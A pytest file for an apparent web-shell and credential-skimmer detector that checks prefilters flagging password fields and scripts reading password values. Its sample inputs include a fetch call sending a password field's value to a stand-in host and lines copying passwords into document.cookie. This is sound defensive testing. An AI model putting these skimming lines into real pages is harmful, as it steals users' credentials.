"""Nearly no file is read, and none that matters is left out."""

from __future__ import annotations

import pytest

from webshellhunt.client_scripts.prefilter import is_script_of_passwords, may_ask_password, may_take_password
from webshellhunt.pages.markup import fold


@pytest.mark.parametrize(
    "text", ["<input type=password>", "<INPUT TYPE = 'PASSWORD'>", '<asp:TextBox TextMode="Password"/>']
)
def test_a_password_field_is_a_prospect(text: str) -> None:
    assert may_ask_password(fold(text))


@pytest.mark.parametrize("text", ["", "<a>Forgot your password?</a>", "<input type=text name=password>"])
def test_other_markup_is_none(text: str) -> None:
    assert not may_ask_password(fold(text))


@pytest.mark.parametrize(
    "taken",
    [
        'gbid("passwordText").value',
        "document.forms[0].password.value",
        '$("#txtPassword").val()',
        'f["password"].value',
    ],
)
def test_a_script_that_takes_a_password_is_a_prospect(taken: str) -> None:
    assert may_take_password(fold(f"document.cookie = {taken}"))
    assert not may_take_password(fold(f"alert({taken})"))


@pytest.mark.parametrize("text", ['e.type == "password"', 'add("password", f)', "/text|password/.test(t)"])
def test_other_scripts_are_none(text: str) -> None:
    assert not may_take_password(fold(f"document.cookie; {text}"))


def test_a_text_without_tags_that_takes_a_password_is_a_script() -> None:
    script = 'fetch("//a.example/" + document.getElementById("password").value)'
    assert is_script_of_passwords(fold(script))
    assert is_script_of_passwords(fold(f"if (a < b) {{ {script} }}"))
    assert not is_script_of_passwords(fold(f"<html><script>{script}</script>"))
    assert not is_script_of_passwords(fold("The password of the document is in the safe."))
